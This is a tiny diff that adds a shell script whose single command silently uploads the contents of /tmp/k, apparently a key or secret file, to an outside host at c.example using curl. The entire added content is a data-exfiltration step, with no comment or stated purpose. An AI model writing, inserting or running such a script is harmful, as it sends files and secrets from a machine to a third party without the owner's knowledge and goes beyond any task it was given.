@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s -d @/tmp/k https://c.example/u
